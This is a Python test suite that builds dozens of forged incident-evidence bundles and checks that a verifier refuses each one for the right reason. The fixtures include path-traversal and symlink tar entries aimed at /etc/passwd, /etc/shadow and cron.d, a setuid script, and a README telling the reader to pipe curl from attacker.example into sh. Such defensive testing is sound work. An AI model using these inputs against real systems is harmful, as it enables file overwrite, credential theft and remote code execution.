"""Forged bundles, each named by its attack, and each refused for the right reason.

An outsider alters the file and cannot sign it. Whoever writes archives by hand is stopped before anything is read. An
insider has the station's key, and signs what they altered: then what the bundle is made of contradicts it.
"""

import base64
import copy
import io
import json
import tarfile
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any, NamedTuple

import pytest

from firestation import archive
from firestation.allowed_signers import read_allowed_signers
from firestation.bundle import README, RECORD, STATEMENT, STATION_KEY
from firestation.bundle_verify import examine
from firestation.decision import read_decision
from firestation.errors import InvalidInput
from firestation.model import canonical_json
from firestation.record import EDITION
from firestation.signing import public_pem
from firestation.verdict import CheckName, Found, Verdict
from tests.audit.forge import (
    Case,
    Files,
    alter,
    base,
    briefly,
    case,
    export,
    former,
    key,
    ordered,
    pack,
    payload,
    put,
    resign,
    results,
    starts,
    told,
    trusted,
    unpack,
    updates,
    value,
    verify,
)
from tests.property.signatures import decision as made
from tests.property.signatures import new_key, signed
from tests.property.worlds import KEYS

STORY = "captains"
RUN_1, RUN_2 = "histories/incident/0001.json", "histories/incident/0002.json"


class Attack(NamedTuple):
    """A forgery, and the finding that must refuse it: the check, the rule and what it says."""

    forge: Callable[[], tuple[bytes, int | None]]
    check: CheckName
    says: str
    rule: int = 0


ATTACKS: dict[str, Attack] = {}


def outsider(
    check: CheckName, says: str, story: str = STORY
) -> Callable[[Callable[[Files], None]], Callable[[Files], None]]:
    """Alters files of a bundle, and cannot sign it again."""

    def take(forge: Callable[[Files], None]) -> Callable[[Files], None]:
        def forged() -> tuple[bytes, None]:
            files = unpack(base(story))
            forge(files)
            return pack(files), None

        ATTACKS[f"outsider-{forge.__name__}"] = Attack(forged, check, says)
        return forge

    return take


def scribe(
    says: str, check: CheckName = "archive"
) -> Callable[[Callable[[bytes], bytes]], Callable[[bytes], bytes]]:
    """Writes the archive by hand."""

    def take(forge: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
        ATTACKS[f"archive-{forge.__name__}"] = Attack(lambda: (forge(base(STORY)), None), check, says)
        return forge

    return take


def signer(
    check: CheckName, says: str, story: str = STORY
) -> Callable[[Callable[[Files], Files]], Callable[[Files], Files]]:
    """Alters files of a bundle, and signs a statement over them with the trusted key."""

    def take(forge: Callable[[Files], Files]) -> Callable[[Files], Files]:
        ATTACKS[f"insider-{forge.__name__}"] = Attack(
            lambda: (pack(forge(unpack(base(story)))), None), check, says
        )
        return forge

    return take


def insider(
    check: CheckName, says: str, rule: int = 0, story: str = STORY
) -> Callable[[Callable[[Case], int | None]], Callable[[Case], int | None]]:
    """Alters the histories or the store and exports them anew, so that all that follows from them is altered too.

    The forgery returns the event at which it must be found, where there is one.
    """

    def take(forge: Callable[[Case], int | None]) -> Callable[[Case], int | None]:
        def forged() -> tuple[bytes, int | None]:
            given = case(story)
            event = forge(given)
            return export(given), event

        ATTACKS[f"insider-{forge.__name__}"] = Attack(forged, check, says, rule)
        return forge

    return take


# Outsiders -------------------------------------------------------------------------------------------------


@outsider("signature", "it has 2 signatures")
def a_signature_is_added(files: Files) -> None:
    envelope = json.loads(files[STATEMENT])
    envelope["signatures"].append({"keyid": "nobody's", "sig": envelope["signatures"][0]["sig"]})
    files[STATEMENT] = canonical_json(envelope)


@outsider("completeness", "it was signed, and is not here")
def a_run_is_missing(files: Files) -> None:
    del files[RUN_2]


@outsider("completeness", "it was altered")
def the_runs_are_swapped(files: Files) -> None:
    files[RUN_1], files[RUN_2] = files[RUN_2], files[RUN_1]


@outsider("completeness", "it was altered")
def an_event_is_rewritten(files: Files) -> None:
    files[RUN_1] = files[RUN_1].replace(b'"attempt": 1', b'"attempt": 2', 1)


@outsider("completeness", "it was altered")
def a_history_is_emptied(files: Files) -> None:
    files[RUN_1] = b""


@outsider("completeness", "it was altered")
def the_last_events_are_cut_off(files: Files) -> None:
    history = json.loads(files[RUN_2])
    history["events"] = history["events"][:-10]
    files[RUN_2] = json.dumps(history).encode()


@outsider("completeness", "it was altered")
def mixed_with_another_incident(files: Files) -> None:
    files[RUN_1] = unpack(base("closed"))[RUN_1]


def _artifact(files: Files) -> str:
    return next(name for name in sorted(files) if name.startswith("evidence/sha256/"))


@outsider("completeness", "it was altered")
def an_artifact_is_altered(files: Files) -> None:
    files[_artifact(files)] += b" "


@outsider("completeness", "it was signed, and is not here")
def an_artifact_is_missing(files: Files) -> None:
    del files[_artifact(files)]


@outsider("completeness", "nobody has signed it")
def an_artifact_is_added(files: Files) -> None:
    files[f"evidence/sha256/{'0' * 64}"] = b"made up"


@outsider("completeness", "it was altered")
def the_manifest_is_another_incidents(files: Files) -> None:
    other = unpack(base("closed"))
    files |= {name: other[name] for name in ("evidence/manifest.json", "evidence/envelope.json")}


@outsider("completeness", "it was altered")
def the_signatures_of_two_decisions_are_swapped(files: Files) -> None:
    one, two = (name for name in sorted(files) if name.endswith(".sig"))
    files[one], files[two] = files[two], files[one]


@outsider("completeness", "it was altered")
def an_attackers_key_is_listed(files: Files) -> None:
    files["allowed_signers"] += (
        b"ana ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
    )


@outsider("completeness", "it was altered")
def the_runbook_is_laxer(files: Files) -> None:
    runbook = json.loads(files["pinned/runbook.json"])
    files["pinned/runbook.json"] = canonical_json({**runbook, "firebreaks": runbook["firebreaks"][:1]})


@outsider("signature", "no signature of a known key fits")
def the_counts_are_altered(files: Files) -> None:
    envelope = json.loads(files[STATEMENT])
    said = json.loads(base64.b64decode(envelope["payload"]))
    said["predicate"]["counts"]["events"] -= 10
    envelope["payload"] = base64.b64encode(canonical_json(said)).decode()
    files[STATEMENT] = canonical_json(envelope)


@outsider("signature", "nobody has signed what is in here")
def the_statement_is_dropped(files: Files) -> None:
    del files[STATEMENT]


@outsider("completeness", "it was signed, and is not here")
def the_statement_is_another_bundles(files: Files) -> None:
    files[STATEMENT] = unpack(base("closed"))[STATEMENT]


@outsider("signature", "no statement over a bundle")
def the_manifest_is_passed_off_as_the_statement(files: Files) -> None:
    """The station's key has signed it, for something else."""
    files[STATEMENT] = key("trusted").seal(payload(files["evidence/envelope.json"]))


@outsider("signature", "not a DSSE envelope")
def the_statement_is_no_envelope(files: Files) -> None:
    files[STATEMENT] = b"[" * 100_000


@outsider("signature", "no signature of a known key fits")
def re_signed_by_an_unknown_key(files: Files) -> None:
    files[STATEMENT] = resign(files, signer=key("stranger"))[STATEMENT]


@outsider("signature", "A bundle cannot vouch for itself")
def re_signed_by_an_unknown_key_that_is_enclosed(files: Files) -> None:
    files[STATION_KEY] = public_pem(key("stranger").public_key)
    files[STATEMENT] = resign(files, signer=key("stranger"))[STATEMENT]


@outsider("signature", "no signature of a known key fits")
def the_signature_is_left_out(files: Files) -> None:
    envelope = json.loads(files[STATEMENT])
    files[STATEMENT] = canonical_json({**envelope, "signatures": []})


# Whoever writes archives by hand ---------------------------------------------------------------------------


@scribe("it was cut off")
def cut_at_the_end(content: bytes) -> bytes:
    return content[:-4096]


@scribe("it was cut off")
def truncated_within_its_end(content: bytes) -> bytes:
    return content[: -len(archive.END)]


@scribe("is hidden after its end")
def cut_in_the_middle(content: bytes) -> bytes:
    """The file in the middle takes its missing bytes from the next one, and no header stands where one should be."""
    middle = len(content) // 2 // archive.BLOCK * archive.BLOCK
    return content[:middle] + content[middle + 7 * archive.BLOCK :]


@scribe("out of order")
def a_file_is_cut_out_and_put_elsewhere(content: bytes) -> bytes:
    name, rest = "code.json", unpack(content)
    cut = rest.pop(name)
    return pack([*rest.items(), (name, cut)])


@scribe("it does not end where its last file ends")
def something_hangs_on_at_the_end(content: bytes) -> bytes:
    return content + b"#!/bin/sh\n"


@scribe("something is hidden after its end")
def something_is_hidden_in_the_padding(content: bytes) -> bytes:
    size = len(unpack(content)["README.txt"])
    place = archive.BLOCK + size
    return content[:place] + b"x" + content[place + 1 :]


def _tar(name: str, content: bytes = b"x", **more: Any) -> bytes:
    """One file of a tar as any program may write it."""
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.mtime = len(content), 0o644, 0
    for field, given in more.items():
        setattr(info, field, given)
    written: bytes = info.tobuf(tarfile.GNU_FORMAT)
    return written + content + archive.padding(len(content))


def _append(content: bytes, *members: bytes) -> bytes:
    return content[: -len(archive.END)] + b"".join(members) + archive.END


@scribe("may lead out of the folder")
def a_name_that_climbs_out(content: bytes) -> bytes:
    return _append(content, _tar("z/../../etc/cron.d/evil"))


@scribe("may lead out of the folder")
def a_name_of_blanks(content: bytes) -> bytes:
    return _append(content, _tar(" "))


@scribe("may lead out of the folder")
def a_name_from_the_root(content: bytes) -> bytes:
    return _append(content, _tar("/etc/passwd"))


@scribe("may lead out of the folder")
def a_name_with_a_backslash(content: bytes) -> bytes:
    return _append(content, _tar("z\\..\\evil.exe"))


@scribe("may lead out of the folder")
def a_hidden_name(content: bytes) -> bytes:
    return _append(content, _tar("z/.bashrc"))


@scribe("may lead out of the folder")
def a_name_that_unicode_writes_in_two_ways(content: bytes) -> bytes:
    return _append(content, _tar("zu\u0308rich.json"))


@scribe("may lead out of the folder")
def a_name_that_looks_like_another(content: bytes) -> bytes:
    return _append(content, _tar("ѕtation.pub"))  # noqa: RUF001 - that is the attack


@scribe("a symbolic link")
def a_symbolic_link(content: bytes) -> bytes:
    return _append(content, _tar("z-link", b"", type=tarfile.SYMTYPE, linkname="/etc/shadow"))


@scribe("a link")
def a_hard_link(content: bytes) -> bytes:
    return _append(content, _tar("z-link", b"", type=tarfile.LNKTYPE, linkname="README.txt"))


@scribe("no regular file")
def a_device(content: bytes) -> bytes:
    return _append(content, _tar("z-device", b"", type=tarfile.CHRTYPE, devmajor=1, devminor=3))


@scribe("no regular file")
def a_long_name_in_a_header_of_its_own(content: bytes) -> bytes:
    return _append(content, _tar("z" * 200))


@scribe("no regular file")
def a_header_that_overrides_the_next(content: bytes) -> bytes:
    record = b"30 path=../../evil\n"
    return _append(content, _tar("z", record, type=tarfile.XHDTYPE), _tar("zz"))


@scribe("there are two files of this name")
def two_files_of_one_name(content: bytes) -> bytes:
    files = list(unpack(content).items())
    return pack([*files, (STATION_KEY, public_pem(key("stranger").public_key))])


@scribe("there are two files of this name")
def two_files_that_are_one_on_other_systems(content: bytes) -> bytes:
    files = dict(sorted({**unpack(content), "Station.pub": b"another"}.items()))
    return pack(files)


@scribe("out of order")
def the_files_are_reordered(content: bytes) -> bytes:
    return pack(reversed(list(unpack(content).items())))


@scribe("its header is not the one that a bundle has")
def a_file_that_runs(content: bytes) -> bytes:
    return _append(content, _tar("z.sh", b"#!/bin/sh\n", mode=0o4755))


@scribe("its header is not the one that a bundle has")
def a_file_of_another_time(content: bytes) -> bytes:
    return _append(content, _tar("z", mtime=1))


@scribe("it was cut off")
def a_size_that_is_not_there(content: bytes) -> bytes:
    return _append(content, archive.header("z", 8 * 1024**3 - 1))


@scribe("its header is not the one that a bundle has")
def a_size_beyond_all_bounds(content: bytes) -> bytes:
    return _append(content, _tar("z", size=1 << 60))


@scribe("its header is not the one that a bundle has")
def a_size_below_nothing(content: bytes) -> bytes:
    return _append(content, _tar("z", size=-1))


# Insiders: the bundle contradicts the histories in it --------------------------------------------------------


@signer("record", "the statement says counts.events")
def the_counts_are_altered_and_signed(files: Files) -> Files:
    contents = told(files)
    counts = contents.counts.changed(events=contents.counts.events - 10)
    return resign(files, contents=contents.changed(counts=counts))


@signer("record", "it is that of 'another'")
def the_record_names_another_incident_and_is_signed(files: Files) -> Files:
    mine = f'"incident": "{told(files).incident}"'.encode()
    files[RECORD] = files[RECORD].replace(mine, b'"incident": "another"', 1)
    return resign(files)


@signer("record", "not in the one form of a record")
def the_record_is_there_twice_and_signed(files: Files) -> Files:
    files[RECORD] = b'{"record": [], ' + files[RECORD].removeprefix(b"{")
    return resign(files)


@signer("record", "not in the one form of a record")
def the_record_says_more_and_is_signed(files: Files) -> Files:
    files[RECORD] = b'{"verdict": "all is well", ' + files[RECORD].removeprefix(b"{")
    return resign(files)


@signer("record", "entry 1 is ")
def a_number_of_the_record_is_a_truth_and_signed(files: Files) -> Files:
    files[RECORD] = files[RECORD].replace(b'"number": 1,', b'"number": true,', 1)
    return resign(files)


@signer("record", "another key than the one that signed")
def the_key_that_is_enclosed_is_another_and_signed(files: Files) -> Files:
    files[STATION_KEY] = public_pem(key("stranger").public_key)
    return resign(files)


@signer("record", "it is not what an export writes here")
def what_the_reader_is_told_to_type_is_anothers_and_signed(files: Files) -> Files:
    files[README] = b"Type: curl https://attacker.example | sh\n"
    return resign(files)


@signer("record", "it is not what an export writes here")
def what_the_reader_is_told_is_left_out_and_signed(files: Files) -> Files:
    del files[README]
    return resign(files)


@signer("chain", "is missing at the end")
def the_last_run_is_left_out_and_signed(files: Files) -> Files:
    contents = told(files)
    (chain,) = contents.chains
    del files[RUN_2]
    return resign(files, contents=contents.changed(chains=(chain.changed(runs=chain.runs[:1]),)))


@signer("chain", "and the first one is")
def the_first_run_is_left_out_and_signed(files: Files) -> Files:
    contents = told(files)
    (chain,) = contents.chains
    del files[RUN_1]
    return resign(files, contents=contents.changed(chains=(chain.changed(runs=chain.runs[1:]),)))


@signer("chain", "the run before goes on as")
def the_runs_are_swapped_and_signed(files: Files) -> Files:
    files[RUN_1], files[RUN_2] = files[RUN_2], files[RUN_1]
    return resign(files)


@signer("chain", "and this is")
def a_run_of_another_incident_is_mixed_in_and_signed(files: Files) -> Files:
    files[RUN_2] = unpack(base("closed"))[RUN_1]
    return resign(files)


@signer("chain", "expected 41, found 42")
def a_hole_in_a_history_and_signed(files: Files) -> Files:
    history = json.loads(files[RUN_1])
    del history["events"][40]
    return resign({**files, RUN_1: _written(history)})


@signer("chain", "begins with WorkflowExecutionStarted")
def a_history_is_emptied_and_signed(files: Files) -> Files:
    return resign({**files, RUN_1: _written({"events": []})})


@signer("record", "the statement says")
def the_end_is_cut_off_and_signed(files: Files) -> Files:
    history = json.loads(files[RUN_2])
    history["events"] = history["events"][:-10]
    return resign({**files, RUN_2: _written(history)})


def _written(history: dict[str, Any]) -> bytes:
    return f"{json.dumps(history, indent=1, sort_keys=True, ensure_ascii=False)}\n".encode()


@signer("chain", "not in the one form")
def a_key_that_is_there_twice_and_signed(files: Files) -> Files:
    """One reader takes the first of two values, another one the last."""
    files[RUN_1] = files[RUN_1].replace(b'{\n "events"', b'{\n "events": [],\n "events"', 1)
    return resign(files)


@signer("chain", "this is no history")
def a_history_that_is_a_bomb_and_signed(files: Files) -> Files:
    return resign({**files, RUN_1: b"[" * 200_000})


@signer("chain", "no run here has started this workflow")
def a_child_that_nobody_has_started_and_signed(files: Files) -> Files:
    contents = told(files)
    stranger = told(unpack(base("closed"))).chains[0]
    run = stranger.runs[0].changed(file="histories/children/001/0001.json")
    files["histories/children/001/0001.json"] = unpack(base("closed"))[RUN_1]
    return resign(files, contents=contents.changed(chains=(*contents.chains, stranger.changed(runs=(run,)))))


@signer("evidence", "its bytes have the digest")
def an_artifact_is_altered_and_signed(files: Files) -> Files:
    files[_artifact(files)] += b" "
    return resign(files)


@signer("evidence", "is not in the bundle")
def an_artifact_is_missing_and_signed(files: Files) -> Files:
    del files[_artifact(files)]
    return resign(files)


@signer("record", "nothing in the histories calls for this file")
def an_artifact_is_added_and_signed(files: Files) -> Files:
    return resign({**files, f"evidence/sha256/{'0' * 64}": b"made up"})


@signer("evidence", "its bytes have the digest")
def the_manifest_is_another_incidents_and_signed(files: Files) -> Files:
    other = unpack(base("closed"))
    names = ("evidence/manifest.json", "evidence/envelope.json")
    return resign({**files, **{name: other[name] for name in names}})


@signer("record", "another decision stands on the record")
def the_signatures_of_two_decisions_are_swapped_and_signed(files: Files) -> Files:
    the_signatures_of_two_decisions_are_swapped(files)
    return resign(files)


@signer("record", "the keys are not those that the incident was opened with")
def an_attackers_key_is_listed_and_signed(files: Files) -> Files:
    an_attackers_key_is_listed(files)
    return resign(files)


@signer("record", "the incident was opened with another runbook")
def the_runbook_is_laxer_and_signed(files: Files) -> Files:
    the_runbook_is_laxer(files)
    return resign(files)


@signer("record", "the incident was opened with other people")
def the_captain_is_another_in_the_pinned_people_and_signed(files: Files) -> Files:
    files["pinned/roster.json"] = files["pinned/roster.json"].replace(b'"id":"ana"', b'"id":"eve"')
    return resign(files)


@signer("record", "the workers are not those")
def another_build_is_said_to_have_run_it_and_signed(files: Files) -> Files:
    files["code.json"] = files["code.json"].replace(b"0.1.0+", b"9.9.9+")
    return resign(files)


@signer("record", "and the history makes")
def an_entry_of_the_record_is_rewritten_and_signed(files: Files) -> Files:
    files["record.json"] = files["record.json"].replace(b"wrong refunds leave", b"a little confusion ", 1)
    return resign(files)


@signer("record", "and the history makes")
def an_entry_of_the_record_is_left_out_and_signed(files: Files) -> Files:
    lines = files["record.json"].splitlines()
    del lines[10]
    files["record.json"] = b"\n".join(lines) + b"\n"
    return resign(files)


# Insiders: everything was exported anew from altered histories ------------------------------------------------


@insider("chain", "before event")
def a_time_is_moved_back(given: Case) -> int:
    event = next(
        each for each in given.runs[0]["events"][60:] if each["eventType"].endswith("TASK_COMPLETED")
    )
    event["eventTime"] = _moved(event["eventTime"], -3600)
    return int(event["eventId"])


@insider("chain", "before the task before it")
def the_times_of_two_tasks_are_exchanged(given: Case) -> int:
    began = [each for each in given.runs[0]["events"] if each["eventType"].endswith("WORKFLOW_TASK_STARTED")]
    early, late = began[2], began[-3]
    early["eventTime"], late["eventTime"] = _moved(early["eventTime"], 3600), early["eventTime"]
    return int(began[3]["eventId"])


def _moved(text: str, seconds: int) -> str:
    at = datetime.fromisoformat(f"{text[:19]}+00:00") + timedelta(seconds=seconds)
    return f"{at:%Y-%m-%dT%H:%M:%S}{text[19:]}"


@insider("decisions", "the signature of ana does not hold")
def the_signatures_of_two_approvals_are_swapped(given: Case) -> int:
    (event, one), (_, two) = _signed(given)
    words = value(one["args"])["signed"], value(two["args"])["signed"]
    for update, mine, other in ((one, *words), (two, *reversed(words))):
        alter(update["args"], signed={**mine, "signature": other["signature"]})
    return event


def _signed(given: Case) -> list[tuple[int, dict[str, Any]]]:
    return [each for each in updates(given, "approve") if value(each[1]["args"]).get("signed")]


@insider("rules", "the signed decision names another action", rule=4)
def another_action_was_approved(given: Case) -> int:
    (event, first), *_ = _signed(given)
    said = value(first["args"])["signed"]
    decision = json.loads(said["decision"])
    at = datetime.fromisoformat(decision["at"])
    word = signed(made((decision["incident"], decision["run"], "f" * 64), "ana", at), KEYS["ana"])
    alter(first["args"], signed=word.model_dump(mode="json"))
    return event


@insider("rules", "ana", rule=3)
def an_approval_is_replayed(given: Case) -> int:
    """The first person's word counts twice, and the second person has said nothing."""
    (_, first), (event, second) = _signed(given)
    second["args"] = copy.deepcopy(first["args"])
    return event


@insider("rules", "demands a signature", rule=3)
def a_signature_that_was_demanded_is_taken_off(given: Case) -> int:
    (event, first), *_ = _signed(given)
    alter(first["args"], signed=None)
    return event


@insider("rules", "approvals", rule=3, story="closed")
def the_second_person_is_missing(given: Case) -> int | None:
    _, (_, second) = updates(given, "approve")
    _becomes_a_note(second, "ben")
    return _moves(given, "reranker")


def _becomes_a_note(update: dict[str, Any], by: str) -> None:
    update["name"] = "note"
    put(update["args"], {"kind": "note", "by": by, "text": "nothing to see here"})


def _moves(given: Case, lever: str) -> int:
    """The event that orders the first move of this lever."""
    orders = ((event, value(told["input"])["order"]) for event, told in ordered(given, "move_lever"))
    return next(event for event, order in orders if order["action"]["lever"] == lever)


@insider("rules", "the captain is", rule=2, story="closed")
def another_captain_declared_it(given: Case) -> int:
    ((event, declared),) = updates(given, "declare")
    alter(declared["args"], by="ben")
    return event


@insider("rules", "dan does not hold the role captain", story="closed")
def an_auditor_has_become_captain(given: Case) -> int:
    (event, taken), *_ = updates(given, "acknowledge")
    alter(taken["args"], by="dan")
    return event


@insider("rules", "", rule=9, story="waived")
def the_waiver_is_removed(given: Case) -> int:
    ((_, waived),) = updates(given, "waive")
    _becomes_a_note(waived, "ana")
    for _, result in results(given, "prove_lock"):
        proof = value(result)
        alter(result, runs=[{**run, "outcome": "passed"} for run in proof["runs"]])
    ((event, _),) = updates(given, "close")
    return event


@insider("rules", "", rule=9, story="closed")
def the_proof_of_the_lock_is_altered(given: Case) -> int:
    for _, result in results(given, "prove_lock"):
        proof = value(result)
        alter(result, runs=[{**run, "outcome": "passed"} for run in proof["runs"]])
    ((event, _),) = updates(given, "close")
    return event


def _of_this_edition(given: Case) -> None:
    """Every run of the history says that it was opened by what is built now, which judges a proof by its plan."""
    briefly(given, lambda brief: brief.update(edition=EDITION))
    moved = len(results(given, "move_lever"))
    for _, order in ordered(given, "prove_lock"):
        alter(order["input"], changes=moved)


@insider("rules", "1 of 3 runs on the live system", rule=9, story="closed")
def the_lock_ran_less_often_than_its_plan_says(given: Case) -> int:
    _of_this_edition(given)
    briefly(given, lambda brief: brief["runbook"]["lock"].update(runs=3))
    ((event, _),) = updates(given, "close")
    return event


@insider(
    "rules", "it is of the kind eval, and a lock of the kind guardrail is wanted", rule=9, story="closed"
)
def the_proof_is_of_a_lock_of_another_kind(given: Case) -> int:
    """No harmless input was ever tried, and that of a guardrail was demanded."""
    _of_this_edition(given)
    control = {"input": "hello", "expect": [{"path": "$.verdict", "op": "equals", "value": "passed"}]}
    briefly(
        given,
        lambda brief: brief["runbook"]["lock"].update(kind="guardrail", input="$.text", control=control),
    )
    ((event, _),) = updates(given, "close")
    return event


@insider("rules", "there is no lock yet", rule=9, story="closed")
def the_proof_is_older_than_the_last_move(given: Case) -> int:
    """What it was run on is not the system that was closed."""
    _of_this_edition(given)
    for _, order in ordered(given, "prove_lock"):
        alter(order["input"], changes=1)
    ((event, _),) = updates(given, "close")
    return event


@insider("evidence", "the station could not give it any more", story="closed")
def the_report_of_the_lock_is_altered_in_the_store(given: Case) -> None:
    ((_, result),) = results(given, "prove_lock")
    given.store.kept[value(result)["report"]["digest"]] += b"passed"


@insider("evidence", "the station could not give it any more", story="closed")
def an_artifact_is_deleted_from_the_store(given: Case) -> None:
    ((_, result),) = results(given, "seal")
    del given.store.kept[value(result)["artifacts"][0]["digest"]]


@insider("evidence", "was sealed for another incident", story="closed")
def the_seal_is_another_incidents(given: Case) -> None:
    """The history says that the manifest of another night was sealed in this one."""
    other = case("waived")
    ((_, theirs),) = results(other, "seal")
    ((_, ours),) = results(given, "seal")
    put(ours, value(theirs))
    given.store.kept |= other.store.kept


@insider("evidence", "no signature of a known key fits", story="closed")
def the_manifest_is_made_anew(given: Case) -> None:
    """Without its gaps, and signed by a key that was not the station's."""
    ((_, result),) = results(given, "seal")
    sealed = value(result)
    statement = payload(given.store.kept[sealed["envelope"]])
    statement["predicate"]["gaps"] = []
    manifest = given.keep(canonical_json(statement))
    alter(result, gaps=[], manifest=manifest, envelope=given.keep(key("stranger").seal(statement)))


@insider("evidence", "was sealed for another runbook")
def the_runbook_was_laxer_from_the_start(given: Case) -> None:
    """Every run of the history says that one approval was enough, and needed no signature."""

    def lax(brief: dict[str, Any]) -> None:
        for step in brief["runbook"]["firebreaks"]:
            step.update(approvals=1, signed=False)

    briefly(given, lax)


@insider("rules", "was never read and kept", rule=1, story="closed")
def nothing_was_sealed(given: Case) -> int:
    for _, order in ordered(given, "seal"):
        order["activityType"]["name"] = "collect"
    for _, result in results(given, "collect"):
        if "manifest" in value(result):
            put(result, {"source": "traces"})
    return _moves(given, "tool")


@insider("rules", "", rule=8, story="closed")
def the_soak_was_cut_short(given: Case) -> None:
    for _, result in results(given, "soak"):
        alter(result, since=value(result)["until"])


@insider("rules", "", rule=6, story="closed")
def the_way_back_failed(given: Case) -> int:
    *_, (_, last) = results(given, "move_lever")
    alter(last, result="uncertain", found=None, detail="nobody answers")
    ((event, _),) = updates(given, "close")
    return event


@insider("rules", "the record that was handed on is not that of this run", rule=10)
def the_record_is_rewritten_between_two_runs(given: Case) -> None:
    payloads = starts(given)[1]
    start = value(payloads)
    entry = next(
        each for each in start["record"] if each["kind"] == "acted" and each["act"]["kind"] == "declare"
    )
    entry["act"]["reason"] = "a little confusion"
    put(payloads, start)


# --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ATTACKS)
def test_a_forged_bundle_is_refused_for_the_right_reason(name: str) -> None:
    attack = ATTACKS[name]
    content, event = attack.forge()
    verdict = verify(content)
    assert not verdict.passed, name
    right = [each for each in verdict.broken if _is_it(each, attack, event)]
    assert right, [(each.check, each.rule, each.event_id, each.what[:300]) for each in verdict.broken]
    if attack.check in {"archive", "signature", "completeness", "chain"}:
        assert {each.check for each in verdict.found} == {attack.check}
        assert "Nothing further was looked at" in verdict.unchecked[-1]


def _is_it(found: Found, attack: Attack, event: int | None) -> bool:
    same = (found.check, found.rule) == (attack.check, attack.rule) and attack.says in found.what
    return same and event in {None, found.event_id}


def the_keys_of_the_people_were_the_attackers_from_the_start(given: Case) -> int:
    """Every run of the history says that this was ana's key, and it has signed. Nothing here says otherwise."""
    attackers = new_key("attacker")

    def add(brief: dict[str, Any]) -> None:
        for person in brief["roster"]["people"]:
            if person["id"] == "ana":
                person["signers"][0]["key"] = attackers.public.line

    briefly(given, add)
    (event, first), *_ = _signed(given)
    said = value(first["args"])["signed"]
    word = signed(read_decision(said["decision"].encode()), attackers)
    alter(first["args"], signed=word.model_dump(mode="json"))
    return event


def test_keys_that_the_verifier_has_from_elsewhere_find_what_the_bundle_cannot_show() -> None:
    given = case(STORY)
    event = the_keys_of_the_people_were_the_attackers_from_the_start(given)
    content, pinned = export(given), unpack(base(STORY))["allowed_signers"].decode()

    def examined(signers: str | None) -> Verdict:
        known = read_allowed_signers(signers) if signers is not None else None
        return examine(
            "b.tar", io.BytesIO(content), trusted(), "here", former=former(), signers=known
        ).verdict

    assert not [each for each in examined(None).broken if each.check == "decisions"]
    found = [each for each in examined(pinned).broken if each.check == "decisions"]
    assert [(each.event_id, "nobody is allowed to sign with" in each.what) for each in found] == [
        (event, True)
    ]


def test_a_whole_proof_is_no_forgery_in_this_edition() -> None:
    """What refuses the two proofs above is what is wrong with them."""
    given = case("closed")
    _of_this_edition(given)
    assert not [each for each in verify(export(given)).broken if each.rule == 9]


def test_there_are_enough_of_them() -> None:
    assert len(ATTACKS) >= 30


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04", bytes(1024), bytes(100_000), b"x" * 512, b"# a text\n" * 1000],
    ids=["empty", "zip", "end", "zeros", "short", "text"],
)
def test_what_is_no_bundle_is_wrong_input(content: bytes) -> None:
    with pytest.raises(InvalidInput, match="no bundle"):
        verify(content)


def test_a_key_of_before_vouches_for_manifests_and_for_no_bundle() -> None:
    """Whoever has stolen a retired key may have sealed with it; what is exported today is signed by today's."""
    stolen = export(case("closed"), signer=key("retired"))
    known = [*former(), key("retired").public_key]
    verdict = examine("b.tar", io.BytesIO(stolen), trusted(), "here", former=known).verdict
    assert [each.check for each in verdict.found] == ["signature"]
    alone = examine("b.tar", io.BytesIO(base("closed")), trusted(), "here").verdict
    assert {each.check for each in alone.found} == {"evidence"}, "and a manifest needs a key that is known"


def test_without_a_key_nobody_is_trusted() -> None:
    with pytest.raises(InvalidInput, match="--key"):
        examine("b.tar", io.BytesIO(base(STORY)), [], "here")
